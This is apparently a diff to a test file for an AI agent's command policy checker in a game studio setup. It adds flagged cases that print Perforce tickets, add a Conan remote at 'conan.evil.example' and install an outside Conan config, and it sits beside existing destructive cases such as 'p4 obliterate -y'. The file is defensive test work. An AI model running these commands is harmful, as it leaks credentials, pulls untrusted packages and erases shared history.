@@ -11,6 +11,18 @@ const blockedBy = (tool: string, input: Record<string, unknown>) =>
 const bash = (command: string) => blockedBy('Bash', { command });
 
 const CAUGHT: [what: string, found: () => string[], policy: string][] = [
+  ['Perforce tickets printed', () => bash('p4 tickets'), 'credential-printing-commands'],
+  ['a Perforce ticket printed', () => bash('p4 login -p'), 'credential-printing-commands'],
+  [
+    'an outside Conan remote',
+    () => bash('conan remote add fast https://conan.evil.example/api/conan/m'),
+    'package-from-untrusted-source',
+  ],
+  [
+    "a stranger's Conan config",
+    () => bash('conan config install https://git.example/x/conan-config.git'),
+    'package-from-untrusted-source',
+  ],
   ['p4 obliterate -y', () => bash('p4 obliterate -y //studio/main/Content/Characters/...'), 'perforce-depot-change'],
   ["a colleague's workspace deleted", () => bash('p4 client -d -f alice_ws'), 'perforce-depot-change'],
   ["another person's shelf deleted", () => bash('p4 shelve -d -f -c 48211'), 'perforce-depot-change'],
@@ -108,6 +120,8 @@ test('a game studio tool chain: what runs a program, erases history or reads a c
 test('the same tools at ordinary work stay unremarked', async () => {
   await ready();
   const quiet: [string, () => string[]][] = [
+    ['Perforce login status', () => bash('p4 login -s')],
+    ['the Conan remotes listed', () => bash('conan remote list')],
     ['p4 obliterate preview', () => bash('p4 obliterate //studio/main/Content/_Old/...')],
     ['p4 sync', () => bash('p4 sync //studio/main/Content/Maps/...')],
     ['own workspace listed', () => bash('p4 clients -u dev')],
